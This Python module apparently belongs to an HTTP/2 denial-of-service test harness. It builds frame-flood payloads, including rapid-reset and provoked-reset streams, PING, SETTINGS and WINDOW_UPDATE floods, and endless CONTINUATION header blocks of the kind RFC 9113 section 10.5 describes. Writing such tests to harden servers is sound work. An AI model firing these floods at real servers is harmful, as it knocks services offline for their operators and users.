"""Floods of HTTP/2 frames that bring nothing (RFC 9113 section 10.5), and field blocks without an end."""

from __future__ import annotations

from flood_http1 import BULK_PATH, KIB
from flood_http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    block,
    by_stream,
    frame,
    headers,
    literal,
    on_connection,
    opening,
)
from flood_swarm import Attack

_CANCEL = (8).to_bytes(4, "big")
_ONE = (1).to_bytes(4, "big")
_UNKNOWN = 0xBE


def floods() -> list[Attack]:
    """All of them."""
    return [*_resets(), *_frames(), *_continuations()]


def _resets() -> list[Attack]:
    fields, refused = block(BULK_PATH), block(b"/", b"x")

    def reset(stream: int) -> bytes:
        return headers(stream, fields) + frame(RST_STREAM, 0, stream, _CANCEL)

    def provoked(stream: int) -> bytes:
        return headers(stream, fields, end=False) + frame(WINDOW_UPDATE, 0, stream, bytes(4))

    def after(stream: int) -> bytes:
        return headers(stream, refused) + frame(RST_STREAM, 0, stream, _CANCEL)

    return [
        by_stream("rapid-reset", "floods", reset, counted=False),
        by_stream("rapid-reset-refused", "floods", after, counted=False),
        by_stream("provoked-reset", "floods", provoked),
    ]


def _frames() -> list[Attack]:
    upload = headers(1, block(), end=False)
    floods = {
        "pings": (b"", frame(PING, 0, 0, b"attacker")),
        "ping-acks": (b"", frame(PING, ACK, 0, b"attacker")),
        "settings": (b"", frame(SETTINGS)),
        "settings-many": (b"", frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff" * 100)),
        "priorities": (b"", frame(PRIORITY, 0, 1, bytes(5))),
        "windows-of-one": (b"", frame(WINDOW_UPDATE, 0, 0, _ONE)),
        "unknown-frames": (b"", frame(_UNKNOWN, 0, 0, b"x")),
        "empty-data": (upload, frame(DATA, 0, 1)),
        "resets-of-closed": (headers(1, block(b"/", b"x")), frame(RST_STREAM, 0, 1, _CANCEL)),
    }
    return [
        Attack(f"frames-{name}", "floods", "h2", on_connection(data, opening() + begin), len(data), "frame")
        for name, (begin, data) in floods.items()
    ]


def _continuations() -> list[Attack]:
    begin = opening() + frame(HEADERS, END_STREAM, 1, block())
    piece = frame(CONTINUATION, 0, 1, literal(b"a", b"b" * 100) * 8)
    nothing = frame(CONTINUATION, 0, 1)
    return [
        Attack("continuation", "floods", "h2", on_connection(piece, begin), len(piece), "frame", allowance=32 * KIB),
        Attack("continuation-empty", "floods", "h2", on_connection(nothing, begin), len(nothing), "frame"),
    ]
